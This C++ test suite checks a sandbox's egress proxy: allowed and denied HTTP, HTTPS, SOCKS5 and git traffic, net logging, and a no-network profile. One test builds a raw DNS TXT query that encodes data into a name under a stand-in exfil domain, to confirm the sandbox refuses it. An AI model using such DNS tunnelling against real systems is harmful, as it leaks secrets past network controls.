// The egress proxy from inside real sandboxes: real clients (curl, git, Python's urllib) reach
// test servers on the host's 127.0.0.1 only through the proxy, and only because the test's
// policy names them. The sandbox's own 127.0.0.1 is its own loopback, so NO_PROXY is emptied
// for these clients (by default loopback bypasses the proxy).
#include <filesystem>

#include "support/http_server.hpp"
#include "support/sandbox_fixture.hpp"

namespace fs = std::filesystem;

namespace paddock::testing {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

class Network : public SandboxTest {
 protected:
  // A policy that allows connecting to `authority` and any HTTP request on it.
  std::string allow(const std::string& authority) {
    const std::string path = root_ + "/net.cedar";
    write_file(path, R"(@id("test-connect")
permit (principal, action == Action::"NetworkConnect", resource == Host::")" +
                         authority + R"(");
@id("test-http")
permit (principal, action == Action::"HttpRequest", resource) when { context.host == "127.0.0.1" };
)");
    return path;
  }
  std::vector<std::string> through_proxy(const std::string& policy) {
    return via_proxy_to_loopback({"--policy", policy});
  }
};
INSTANTIATE_TEST_SUITE_P(Modes, Network, ::testing::Values(Mode::root, Mode::unprivileged), mode_name);

TEST_P(Network, CurlPlainHttpThroughTheForwardProxy) {
  TestHttpServer server;
  auto r = paddock_run(through_proxy(allow(server.authority())),
                       {"curl", "-sS", "http://" + server.authority() + "/hello?x=1"});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "hello from the test server: GET /hello?x=1\n") << r.err;
  auto seen = server.requests();
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].target, "/hello?x=1") << "origin form upstream";
  EXPECT_FALSE(seen[0].headers.contains("proxy-connection"));
}

TEST_P(Network, ADeniedHostGets403NamingThePolicyAndTheAllowCommand) {
  TestHttpServer allowed, denied;
  auto r = paddock_run(through_proxy(allow(allowed.authority())),
                       {"curl", "-sS", "-i", "http://" + denied.authority() + "/"});
  EXPECT_THAT(r.out, HasSubstr("HTTP/1.1 403")) << r.err;
  EXPECT_THAT(r.out, HasSubstr("paddock allow host " + denied.authority()));
  EXPECT_THAT(r.err, HasSubstr("paddock allow host " + denied.authority())) << "the denial line on stderr";
  EXPECT_TRUE(denied.requests().empty()) << "no byte reached the denied server";
}

TEST_P(Network, CurlHttpsThroughConnect) {
  const auto tls = make_self_signed(workspace_);  // where the sandboxed curl can read the CA
  TestHttpServer server({.document_root = {}, .tls = tls});
  TestHttpServer other({.document_root = {}, .tls = tls});
  const auto policy = allow(server.authority());
  auto r = paddock_run(through_proxy(policy),
                       {"curl", "-sS", "--cacert", tls.certificate, "https://" + server.authority() + "/secure"});
  EXPECT_EQ(r.out, "hello from the test server: GET /secure\n") << r.err;
  r = paddock_run(through_proxy(policy),
                  {"curl", "-sS", "--cacert", tls.certificate, "https://" + other.authority() + "/"});
  EXPECT_NE(r.status, 0);
  EXPECT_THAT(r.err, HasSubstr("403")) << "a denied CONNECT is a 403, never a 200";
  EXPECT_TRUE(other.requests().empty());
}

TEST_P(Network, GitCloneOverHttp) {
  // A bare repository served by git's dumb HTTP protocol (static files).
  const std::string served = root_ + "/served";
  write_file(workspace_ + "/README", "from the test server\n");
  auto git = [&](std::vector<std::string> args) {
    args.insert(args.begin(), {"git", "-c", "user.name=t", "-c", "user.email=t@t"});
    auto result = run_process(as_user(args), {.env = environment(), .cwd = workspace_});
    EXPECT_EQ(result.status, 0) << result.err;
  };
  git({"init", "-q", "."});
  git({"add", "README"});
  git({"commit", "-q", "-m", "one"});
  git({"clone", "-q", "--bare", workspace_, served + "/repo.git"});
  git({"--git-dir", served + "/repo.git", "update-server-info"});
  TestHttpServer server({.document_root = served, .tls = std::nullopt});

  auto r =
      paddock_run(through_proxy(allow(server.authority())),
                  {"sh", "-c", "git clone -q http://" + server.authority() + "/repo.git clone && cat clone/README"});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "from the test server\n") << r.err;
}

TEST_P(Network, PythonUrllibUsesTheProxyVariables) {
  TestHttpServer server;
  auto r = paddock_run(through_proxy(allow(server.authority())),
                       {"/usr/bin/python3", "-c",
                        "import urllib.request; print(urllib.request.urlopen('http://" + server.authority() +
                            "/py').read().decode(), end='')"});
  EXPECT_EQ(r.out, "hello from the test server: GET /py\n") << r.err;
}

TEST_P(Network, CurlThroughSocks5IsDecidedLikeConnect) {
  // socks5h: curl hands the proxy the name (here a literal), as git over ssh would a host.
  TestHttpServer allowed, denied;
  auto options = through_proxy(allow(allowed.authority()));
  options.push_back("--net-log");
  auto r = paddock_run(
      options, {"curl", "-sS", "--proxy", "socks5h://127.0.0.1:3128", "http://" + allowed.authority() + "/socks"});
  EXPECT_EQ(r.out, "hello from the test server: GET /socks\n") << r.err;
  EXPECT_THAT(r.err, HasSubstr("net #1 socks5 " + allowed.authority() + " allow [test-connect]"));
  r = paddock_run(options,
                  {"curl", "-sS", "--proxy", "socks5h://127.0.0.1:3128", "http://" + denied.authority() + "/"});
  EXPECT_NE(r.status, 0);
  EXPECT_THAT(r.err, HasSubstr("socks5 " + denied.authority() + " deny")) << r.err;
  EXPECT_TRUE(denied.requests().empty()) << "no byte reached the denied server";
}

TEST_P(Network, NetLogPrintsEachConnectionAndRequest) {
  TestHttpServer server;
  auto options = through_proxy(allow(server.authority()));
  options.push_back("--net-log");
  auto r = paddock_run(options, {"curl", "-sS", "-o", "/dev/null", "http://" + server.authority() + "/logged"});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_THAT(r.err, HasSubstr("net #1 http " + server.authority() + " allow [test-connect]"));
  EXPECT_THAT(r.err, HasSubstr("http #1 GET http://" + server.authority() + "/logged -> 200"));
  EXPECT_THAT(r.err, HasSubstr("net #1 closed"));
}

TEST_P(Network, TheSandboxLoopbackIsNotTheHosts) {
  TestHttpServer server;
  // Without the proxy (NO_PROXY as paddock sets it), 127.0.0.1 is the sandbox's own loopback.
  auto r = paddock_run({"--policy", allow(server.authority())}, {"curl", "-sS", "http://" + server.authority() + "/"});
  EXPECT_NE(r.status, 0);
  EXPECT_THAT(r.err, HasSubstr("Couldn't connect")) << r.err;
  EXPECT_TRUE(server.requests().empty());
}

TEST_P(Network, DnsStubRefusesNamesThePolicyDenies) {
  // A TXT query for an exfiltration-shaped name straight to the stub (row 40): REFUSED (5).
  const std::string script =
      "import socket\n"
      "q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'\n"
      "for label in b'c2VjcmV0.exfil.example.com'.split(b'.'): q += bytes([len(label)]) + label\n"
      "q += b'\\x00\\x00\\x10\\x00\\x01'\n"
      "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\n"
      "s.sendto(q, ('127.0.0.1', 53)); a = s.recv(512)\n"
      "print('id', a[:2].hex(), 'rcode', a[3] & 15)\n";
  auto r = paddock_run({"--net-log"}, {"/usr/bin/python3", "-c", script});
  EXPECT_EQ(r.out, "id 1234 rcode 5\n") << r.err;
  EXPECT_THAT(r.err, HasSubstr("dns TXT c2VjcmV0.exfil.example.com -> - deny"));
}

TEST_P(Network, ParanoidHasNoWayOut) {
  auto r = paddock_run(
      {"--profile", "paranoid"},
      {"sh", "-c", "env | grep -ci _proxy; grep -c paddock /etc/resolv.conf; curl -sS http://example.com/"});
  EXPECT_THAT(r.out, ::testing::StartsWith("0\n0\n")) << "no proxy variables, the host's resolv.conf: " << r.err;
  EXPECT_THAT(r.err, HasSubstr("Could not resolve host")) << r.err;
}

}  // namespace
}  // namespace paddock::testing
